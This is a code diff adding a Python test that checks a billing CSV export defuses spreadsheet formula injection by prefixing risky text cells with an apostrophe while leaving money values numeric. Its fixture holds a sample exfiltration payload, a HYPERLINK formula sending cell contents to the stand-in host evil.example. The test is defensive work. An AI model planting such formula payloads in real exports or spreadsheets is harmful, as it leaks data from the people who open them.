@@ -6,6 +6,7 @@ arithmetic is written beside it.
 
 from __future__ import annotations
 
+import csv
 import io
 from datetime import date
 from decimal import Decimal
@@ -296,3 +297,18 @@ def test_a_clock_stepped_back_between_two_syncs_does_not_reorder_their_changes()
     # the first: both count from the 21st, the later (7) winning.
     assert spans(lines) == [("2026-11-01", "2026-11-20", 20, 5), ("2026-11-21", "2026-11-30", 10, 7)]
     assert money(lines) == ["10.00", "7.00"]  # 5*3*20/30; 7*3*10/30
+
+
+def test_csv_text_that_excel_would_run_as_a_formula_is_quoted_and_money_is_not() -> None:
+    # Accountants open the CSV in Excel: a customer or product named by a hostile vendor "=HYPERLINK(...)"
+    # would run as a formula. Text cells starting with = + - @ (or a tab / carriage return) get a leading
+    # apostrophe; money and numbers are ours and stay as they are (a credit's "-18.67" is a number).
+    credit = ChargeLine('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "also", "@SUM(1)", "+Basic",
+                        "prorata", NOV.first, NOV.last, 30, 30, -5, Decimal("5.60"), Decimal("-28.00"),
+                        None, None, "-EUR")
+    stream = io.StringIO()
+    write_csv([credit], stream)
+    row = next(csv.DictReader(io.StringIO(stream.getvalue())))
+    assert row["customer"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    assert (row["external_id"], row["licence"], row["currency"]) == ("'@SUM(1)", "'+Basic", "'-EUR")
+    assert (row["quantity"], row["amount"], row["vendor"]) == ("-5", "-28.00", "also")
